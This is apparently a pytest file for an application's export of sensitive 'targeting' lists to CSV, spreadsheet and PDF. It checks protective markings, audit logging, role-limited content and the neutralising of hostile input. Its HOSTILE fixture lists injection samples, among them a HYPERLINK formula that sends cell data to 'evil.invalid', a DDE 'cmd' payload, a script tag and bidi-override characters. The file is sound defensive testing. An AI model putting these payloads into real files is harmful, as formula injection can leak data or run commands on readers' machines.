"""A list taken along: marked, harmless to a spreadsheet, no more than the page shows, and in the audit log."""

import csv
import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pypdf
import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from targeting.fairness.pdf import can_make_pdf
from targeting.serving.published import PublishedList
from targeting.serving.terminal import NOTHING_STANDS_OUT

Make = Callable[..., PublishedList]
HOSTILE = (
    '=HYPERLINK("http://evil.invalid?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "<script>alert(1)</script>",
    "\u202eevil\u2066",
    "W" * 500,
    "\u200f=1+1",
)


@pytest.fixture
def hostile(panel: Any, a_list: Make) -> Any:
    """Return a list whose every text is hostile, and who signs somebody of a role in over it."""
    made = a_list()
    reasons = tuple(made.flags[0].reasons[1].model_copy(update={"sentence": each}) for each in HOSTILE)
    flag = made.flags[0].model_copy(update={"reasons": reasons})
    head = made.head.model_copy(update={"title": HOSTILE[0], "panel_title": HOSTILE[0], "outcome": HOSTILE[6]})
    published = replace(made, head=head, flags=(flag, *made.flags[1:]))
    return published, panel(published)


def taken(visitor: Any, published: PublishedList, form: str) -> Any:
    return visitor.post(f"/lists/{published.head.id}/export", purpose="meeting", format=form)


def test_a_csv_is_marked_on_every_row_and_no_cell_is_a_formula(hostile: Any) -> None:
    published, visitor_as = hostile
    answered = taken(visitor_as("chair", subject="=ada"), published, "csv")
    assert answered.headers["content-type"] == "text/csv; charset=utf-8"
    assert answered.headers["content-disposition"] == (
        f'attachment; filename="targeting-2026-03-30-{published.head.id[2:10]}.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(answered.content.decode("utf-8-sig"), newline="")))
    assert [row["family_id"] for row in rows] == ["f_aaaa", "f_bbbb"]
    for row in rows:
        assert row["marking"].startswith("OFFICIAL-SENSITIVE. Taken by =ada (chair), 30 March 2026, 07:00, for: Papers")
        assert not [cell for cell in row.values() if cell[:1] in "=+-@\t\r" and cell]
    assert not set("\u202e\u2066\u200f") & set(answered.content.decode())
    assert "W" * 500 in rows[0]["why_to_look"]


def test_a_workbook_holds_text_alone_and_is_marked_on_screen_and_on_paper(hostile: Any) -> None:
    published, visitor_as = hostile
    content = taken(visitor_as("chair", subject="=ada & ben"), published, "xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert str(sheet["A1"].value).startswith("OFFICIAL-SENSITIVE. Taken by =ada & ben (chair), 30 March 2026")
    assert sheet.oddHeader.center.text == "OFFICIAL-SENSITIVE"
    assert "ada and ben" in sheet.oddFooter.left.text
    assert not [name for name in zipfile.ZipFile(io.BytesIO(content)).namelist() if "vba" in name.lower()]
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")


@pytest.mark.skipif(not can_make_pdf(), reason="WeasyPrint is absent: install targeting[pdf]")
def test_a_pdf_is_tagged_and_marked_on_every_sheet(hostile: Any) -> None:
    published, visitor_as = hostile
    document = pypdf.PdfReader(io.BytesIO(taken(visitor_as("chair"), published, "pdf").content))
    assert document.trailer["/Root"]["/MarkInfo"]["/Marked"]
    assert document.trailer["/Root"]["/Lang"] == "en-GB"
    for sheet in document.pages:
        assert "OFFICIAL-SENSITIVE" in sheet.extract_text()
        assert "Taken by demo chair (chair), 30 March 2026" in " ".join(sheet.extract_text().split())
    assert "<script>alert(1)</script>" in "".join(sheet.extract_text() for sheet in document.pages)


def test_what_is_taken_is_in_the_log_with_its_purpose_and_families(hostile: Any, doors_of: Any, tmp_path: Any) -> None:
    published, visitor_as = hostile
    taken(visitor_as("governance"), published, "csv")
    with doors_of(tmp_path).control.database.reading() as connection:
        events = connection.execute(
            text("select what, role, families, details from audit_events where action = 'export_list'")
        )
        assert [tuple(each) for each in events] == [
            (
                published.head.id,
                "governance",
                '["f_aaaa", "f_bbbb"]',
                '{"export": "csv", "export_purpose": "meeting"}',
            )
        ]


def test_a_file_holds_no_more_than_the_readers_page(hostile: Any, panel: Any, a_list: Make) -> None:
    published, visitor_as = hostile
    support = taken(visitor_as("business_support"), published, "csv").content.decode()
    assert "W" * 500 not in support
    assert "reasons are held by Police" in support
    blind = a_list(kind="review")
    blind = replace(blind, head=blind.head.model_copy(update={"works_blind": True}))
    content = taken(panel(blind)("chair"), blind, "csv").content.decode()
    assert "f_aaaa" in content
    assert "about 3" not in content


def test_where_reasons_are_held_back_no_page_and_no_file_says_that_there_are_none(
    panel: Any, a_list: Make, read: Any
) -> None:
    published, visitor_as = a_list(), panel()
    support, flag = visitor_as("business_support"), published.flags[0]
    assert "1 reason is held by" in support.get(f"/flags/{flag.id}").text
    assert "Nothing that may be shown to you." in read(support.get(f"/flags/{flag.id}").text).text
    assert NOTHING_STANDS_OUT not in read(support.get(f"/flags/{flag.id}").text).text
    # Of the second one nothing is held at all, and that is said.
    listed = read(support.get(f"/lists/{published.head.id}").text).text
    assert (listed.count("Nothing that may be shown to you."), listed.count(NOTHING_STANDS_OUT)) == (1, 1)


def test_a_purpose_and_a_form_have_to_be_chosen(hostile: Any) -> None:
    published, visitor_as = hostile
    chair, path = visitor_as("chair"), f"/lists/{published.head.id}/export"
    assert chair.get(path).status_code == 200
    for fields in ({}, {"purpose": "meeting"}, {"format": "csv"}, {"purpose": "profit", "format": "exe"}):
        answered = chair.post(path, **fields)
        assert (answered.status_code, "There is a problem" in answered.text) == (422, True)
    assert chair.post_bare(path, purpose="meeting", format="csv").status_code == 403
